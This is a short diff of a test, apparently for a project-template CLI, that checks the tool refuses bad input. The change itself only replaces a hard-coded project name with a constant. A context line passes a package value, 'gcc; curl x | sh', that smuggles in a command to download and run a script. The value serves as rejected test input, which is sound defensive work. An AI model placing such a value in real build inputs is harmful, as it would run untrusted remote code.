@@ -72,7 +72,7 @@ def test_cli_refusal_names_the_question_and_leaves_an_existing_destination_empty
         [
             *COPIER,
             "--data",
-            "project_name=My Tool",
+            f"project_name={PROJECT_NAME}",
             "--data",
             'apt_build_packages=["gcc; curl x | sh"]',
             template_snapshot(),
